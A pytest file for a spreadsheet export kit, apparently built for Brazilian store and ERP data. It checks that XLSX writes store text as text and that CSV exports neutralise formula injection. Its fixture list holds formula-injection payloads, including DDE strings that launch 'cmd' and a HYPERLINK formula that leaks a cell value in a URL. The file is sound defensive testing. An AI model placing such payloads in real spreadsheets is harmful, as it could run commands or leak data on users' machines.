"""Every XLSX the kit writes stores text as text (formula injection), streamed; the CSV for Excel is neutralised."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from kit.sheets.xlsxwrite import neutralize_formulas, write_csv, write_xlsx

# Texts a store or an ERP may hold that Excel would run if they were written as formulas.
HOSTILE = [
    '=HYPERLINK("http://127.0.0.1/x?"&A1,"abrir")',
    "=1+1",
    "+55 11 99999-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _formulas(path: Path) -> list[str]:
    """Every ``<f>`` element of every sheet of a workbook."""
    with zipfile.ZipFile(path) as zf:
        return [
            m.group(0)
            for name in zf.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.finditer(r"<(?:\w+:)?f[\s>].*?</(?:\w+:)?f>|<(?:\w+:)?f/>", zf.read(name).decode())
        ]


def _cells(path: Path, sheet: str) -> list[tuple]:
    import openpyxl

    wb = openpyxl.load_workbook(path, read_only=False)
    rows = [tuple((c.value, c.data_type) for c in row) for row in wb[sheet].iter_rows()]
    wb.close()
    return rows


def test_text_is_written_as_text_and_numbers_as_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "sku": pd.Series(HOSTILE, dtype="str"),
            "preço": [1.5, float("nan"), 3.0, -4.25, 0.0, 7.0],
            "estoque": [1, 2, 3, 4, 5, 6],
            "ativo": [True, False, True, True, False, True],
            "quando": pd.to_datetime(["2025-01-02 10:30", None, "2025-03-04 00:00", None, None, "2025-07-08 09:00"]),
        }
    )
    path = write_xlsx(tmp_path / "out.xlsx", {"Achados": frame, "Resumo": pd.DataFrame({"item": ["a"], "valor": [2]})})
    assert _formulas(path) == []
    rows = _cells(path, "Achados")
    assert rows[0] == (("sku", "s"), ("preço", "s"), ("estoque", "s"), ("ativo", "s"), ("quando", "s"))
    assert [r[0] for r in rows[1:]] == [(text, "s") for text in HOSTILE]
    assert rows[1][1:4] == ((1.5, "n"), (1, "n"), (True, "b"))
    assert rows[2][1] == (None, "n")  # NaN: an empty cell
    assert rows[1][4][0].year == 2025 and rows[2][4][0] is None
    assert not list(tmp_path.glob(".*tmp")), "the temporary file is gone"


def test_a_sheet_too_long_is_refused_before_anything_is_written(tmp_path, monkeypatch):
    import kit.sheets.xlsxwrite as xlsxwrite

    monkeypatch.setattr(xlsxwrite, "XLSX_SHEET_ROWS", 3)
    with pytest.raises(ValueError, match="mais do que uma aba do Excel comporta"):
        write_xlsx(tmp_path / "out.xlsx", {"A": pd.DataFrame({"x": range(4)})})
    assert not list(tmp_path.iterdir())


def test_csv_for_excel_neutralises_formulas_but_not_negative_numbers(tmp_path):
    frame = pd.DataFrame({"valor": [*HOSTILE, "-12,5", "-3", "texto", None], "n": range(10)})
    out = neutralize_formulas(frame)
    assert out["valor"].tolist()[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
    assert out["valor"].tolist()[len(HOSTILE) : -1] == ["-12,5", "-3", "texto"]
    assert pd.isna(out["valor"].iloc[-1])
    path = write_csv(tmp_path / "achados.csv", frame)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfvalor;n")  # what Excel in Portuguese opens in columns
    assert frame["valor"].tolist()[0] == HOSTILE[0], "the caller's frame is left as it was"


def _hostile_exports(tmp_path: Path) -> tuple[Path, Path]:
    erp = tmp_path / "erp.csv"
    store = tmp_path / "store.csv"
    header = "sku;ean;title;brand;price;stock\n"
    erp.write_text(
        header
        + "".join(f'"{t.replace(chr(34), chr(34) * 2)}";;Título {i};Marca;10,00;1\n' for i, t in enumerate(HOSTILE))
        + "A-1;;=1+1 caneca;Marca;10,00;1\n",
        encoding="utf-8",
    )
    store.write_text(header + "A-1;;@caneca;Marca;5,00;3\nLOJA-1;;=HYPERLINK(1);Marca;5,00;3\n", encoding="utf-8")
    return erp, store


def test_golive_report_files_store_hostile_skus_and_titles_as_text(tmp_path):
    """Fails on the openpyxl writer, which wrote '=HYPERLINK(...)' and '=1+1' as live formulas."""
    from kit.golive.run import FINDINGS_CSV_FILE, run_golive

    erp, store = _hostile_exports(tmp_path)
    run = run_golive(channel_type="mercadolivre", erp_file=erp, store_file=store, output_dir=tmp_path / "out")
    findings = run.findings
    assert findings["sku"].isin(HOSTILE).sum() >= len(HOSTILE) - 1  # the ERP's hostile SKUs are missing in the store
    assert _formulas(run.xlsx_path) == []
    texts = {value for row in _cells(run.xlsx_path, "Achados") for value, kind in row if kind == "s"}
    assert set(HOSTILE[:-1]) <= texts  # "\t=1+1" is read back stripped by the reader, so it is not a SKU here
    text = (tmp_path / "out" / FINDINGS_CSV_FILE).read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ";=" not in text and "\n=" not in text


def test_depara_export_stores_hostile_values_as_text(tmp_path):
    from kit.depara import export_xlsx

    table = pd.DataFrame(
        {
            "channel_payment_method": HOSTILE[:3],
            "erp_payment_method": ["=1+2", "@x", "Pix"],
            "method": ["fuzzy"] * 3,
            "score": [80.0, 70.0, 60.0],
            "confirmed": [False] * 3,
            "note": ["=cmd", "", ""],
        }
    )
    path = export_xlsx("loja", "payment_method", tmp_path / "depara.xlsx", table=table)
    assert _formulas(path) == []
